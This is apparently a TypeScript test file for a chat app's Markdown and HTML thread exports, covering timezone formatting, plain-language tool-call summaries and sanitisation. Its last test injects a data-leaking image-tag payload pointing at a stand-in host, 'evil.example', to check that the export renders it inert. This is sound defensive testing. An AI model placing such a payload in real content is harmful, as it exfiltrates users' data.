import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { DecisionRecord } from '@/lib/contract/decisions';
import type { MessageView, ThreadExport } from '@/lib/contract/responses';
import { exportTime } from './words';
import { threadHtml } from './html';
import { threadMarkdown } from './markdown';

/** A thread with a question sent with a table, answered by a computed figure after the checks (issue 46, items 7 and 9). */
const at = Date.UTC(2026, 11, 4, 17, 40);
const message = (m: Partial<MessageView> & Pick<MessageView, 'id' | 'role' | 'content'>): MessageView => ({
  status: 'complete',
  errorCode: null,
  turnId: 't',
  createdAt: at,
  toolCalls: [],
  attachments: [],
  decisions: [],
  setAside: [],
  calculation: null,
  thinking: [],
  ...m,
});
const figure: DecisionRecord = {
  stepId: 'table_figure',
  at,
  modelId: 'm',
  source: 'native',
  answers: { asks_figure: { kind: 'boolean', value: true, p: 0.95 } },
};
const view: ThreadExport = {
  id: 'th',
  title: 'Sales',
  createdAt: at,
  updatedAt: at,
  pinned: false,
  folderId: null,
  archived: false,
  systemPrompt: '',
  activeTurn: null,
  decisions: [figure],
  messages: [
    message({
      id: 'u1',
      role: 'user',
      content: 'What were the total sales in March?',
      attachments: [{ id: '6f1c2a3e-0000-4000-8000-000000000001', name: 'sales.csv', mime: 'text/csv', size: 120 }],
    }),
    message({
      id: 'a1',
      role: 'assistant',
      content: 'The total is **1,234.50**.',
      toolCalls: [
        {
          id: 'c1',
          name: 'query_table',
          arguments: '{"attachment_id":"6f1c2a3e-0000-4000-8000-000000000001","sql":"SELECT SUM(amount) FROM t"}',
          ok: true,
          result: { file: 'sales.csv', sql: 'SELECT SUM(amount) AS total FROM t', columns: ['total'], rows: [[1234.5]], total_rows: 1 },
          repeat: false,
          ms: 12,
        },
        {
          id: 'c2',
          name: 'notes__add_note',
          arguments: '{"text":"sales"}',
          ok: false,
          result: null,
          error: 'denied',
          repeat: false,
          ms: 1,
        },
      ],
    }),
  ],
};

test('a time in the reader’s timezone, named', () => {
  assert.equal(exportTime(at, 'Europe/Paris'), '2026-12-04 18:40 (Europe/Paris)');
  assert.equal(exportTime(at, 'UTC'), '2026-12-04 17:40 (UTC)');
  assert.equal(exportTime(at, 'Not/AZone'), '2026-12-04 17:40 (UTC)');
});

test('the Markdown export names a message’s files, says tool calls and checks in words, in the user’s timezone', () => {
  const md = threadMarkdown(view, 'Hearth', 'Europe/Paris');
  assert.match(md, /## You \(2026-12-04 18:40 \(Europe\/Paris\)\)/);
  assert.match(md, /What were the total sales in March\?\n\n_Files: sales\.csv_/);
  assert.match(md, /> Computed over the attached table\n/);
  assert.match(md, /> Using the notes tool “add note”: failed\n/);
  assert.match(md, /Checks:\n\n- Asks for a figure from the table: yes, 95%/);
  for (const jargon of ['Decisions so far', 'table_figure', 'asks_figure', 'query_table', 'notes__add_note', '6f1c2a3e', '{"'])
    assert.ok(!md.includes(jargon), `the Markdown export says ${jargon}`);
});

test('the web-page export shows the computed figure as its card, checks in words, times with their zone', () => {
  const page = threadHtml(view, 'Hearth', 'Europe/Paris');
  assert.match(page, /<div class="figure"><div class="figure-head">Computed by Hearth from sales\.csv<\/div>/);
  assert.match(page, /<pre>SELECT SUM\(amount\) AS total FROM t<\/pre>/);
  assert.match(page, /<th>total<\/th>[\s\S]*<td class="num">1,234\.5<\/td>/);
  assert.match(page, /<time datetime="2026-12-04T17:40:00\.000Z">2026-12-04 18:40 \(Europe\/Paris\)<\/time>/);
  assert.match(page, /<summary>Using the notes tool “add note”: failed<\/summary>/);
  assert.match(page, /Asks for a figure from the table: yes, 95%/);
  for (const jargon of ['query_table ok', 'table_figure', 'asks_figure', ' UTC<'])
    assert.ok(!page.includes(jargon), `the web page says ${jargon}`);
});

test('the Markdown export makes inert what people and models wrote: the title, the instructions, your messages, the name', () => {
  const leak = '<img src=https://evil.example/p?d=secret>';
  const md = threadMarkdown(
    {
      ...view,
      title: `Title ${leak}`,
      systemPrompt: `Be brief. ${leak}`,
      messages: view.messages.map((m) =>
        m.role === 'user' ? { ...m, content: `${m.content} ${leak} ![x](https://evil.example/i.png)` } : m,
      ),
    },
    `Ember ${leak}`,
    'UTC',
  );
  assert.ok(!md.includes('<img'), 'no raw tag is left');
  assert.match(md, /^# Title &lt;img src=https:\/\/evil\.example\/p\?d=secret>$/m);
  assert.match(md, /^Be brief\. &lt;img /m);
  assert.match(md, /## Ember &lt;img /);
  assert.match(md, /\[image: x\]\(https:\/\/evil\.example\/i\.png\)/, 'a remote image in your message is a link');
});
